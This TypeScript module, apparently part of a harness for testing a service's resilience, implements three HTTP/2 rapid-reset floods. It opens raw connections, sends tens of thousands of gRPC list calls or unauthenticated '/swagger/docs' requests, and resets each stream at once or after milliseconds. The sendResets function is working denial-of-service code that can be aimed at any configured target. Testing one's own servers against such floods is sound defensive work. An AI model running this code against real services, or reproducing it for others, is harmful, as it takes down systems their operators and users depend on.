import { setTimeout as pause } from "node:timers/promises";
import { type CallerTarget, callerAttack, type User } from "../attack.ts";
import { streamsPerConnection } from "../http2-session.ts";
import { openRaw, type RawConnection } from "../raw-http2.ts";
import type { RawRequest } from "../requests.ts";
import { listOrders } from "./left-reads.ts";

/** How long a read may run before it is reset; 0 resets it in the same packet. */
type Pace = { readonly connections: number; readonly reads: number; readonly readForMs: number };

/** Lists that are reset as soon as the edge has passed them on. */
export const cancelledReads = callerAttack({
  name: "cancelled-reads",
  full: { seconds: 12, reads: 90_000, connections: 16, readForMs: 2 },
  short: { seconds: 2, reads: 9_000, connections: 16, readForMs: 2 },
  size: ({ reads, connections }) => `${reads} lists reset over ${connections} connections`,
  run: (target, pace) => sendResets(target, pace, listOrders("gRPC", target.users[0] as User)),
});

/** The same with a reset right behind each request, over few connections. */
export const rapidResets = callerAttack({
  name: "rapid-resets",
  full: { seconds: 12, reads: 64_000, connections: 2, readForMs: 0 },
  short: { seconds: 1, reads: 10_000, connections: 2, readForMs: 0 },
  size: ({ reads, connections }) => `${reads} calls reset at once on ${connections} connections`,
  run: (target, pace) => sendResets(target, pace, listOrders("gRPC", target.users[0] as User)),
});

/** The same without a token, on pages that need none. */
export const anonymousResets = callerAttack({
  name: "anonymous-resets",
  full: { seconds: 12, reads: 64_000, connections: 2, readForMs: 0 },
  short: { seconds: 1, reads: 10_000, connections: 2, readForMs: 0 },
  size: ({ reads, connections }) =>
    `${reads} requests without a token reset at once on ${connections} connections`,
  run: (target, pace) =>
    sendResets(target, pace, {
      headers: { ":method": "GET", ":path": "/swagger/docs" },
      body: undefined,
    }),
});

async function sendResets(target: CallerTarget, pace: Pace, request: RawRequest) {
  const { connections, reads, readForMs } = pace;
  const each = Math.ceil(reads / connections);
  let [sent, closed] = [0, 0];
  const lane = async () => {
    let connection: RawConnection | undefined;
    for (let done = 0; done < each; ) {
      if (!connection || connection.isClosed) {
        if (connection) closed += 1;
        connection?.[Symbol.dispose]();
        connection = await openRaw(target);
      }
      const batch = Math.min(streamsPerConnection, each - done);
      const streams = Array.from({ length: batch }, () => {
        const stream = connection?.request(request) ?? 0;
        if (readForMs === 0) connection?.reset(stream);
        return stream;
      });
      if (readForMs > 0) {
        await connection.flush();
        await pause(readForMs);
        for (const stream of streams) connection.reset(stream);
      }
      await connection.flush();
      // Lets the answers in, and sees a connection that was closed.
      await pause(0);
      done += batch;
      sent += batch;
    }
    connection?.[Symbol.dispose]();
  };
  await Promise.all(Array.from({ length: connections }, lane));
  return { sent, "connections closed": closed };
}
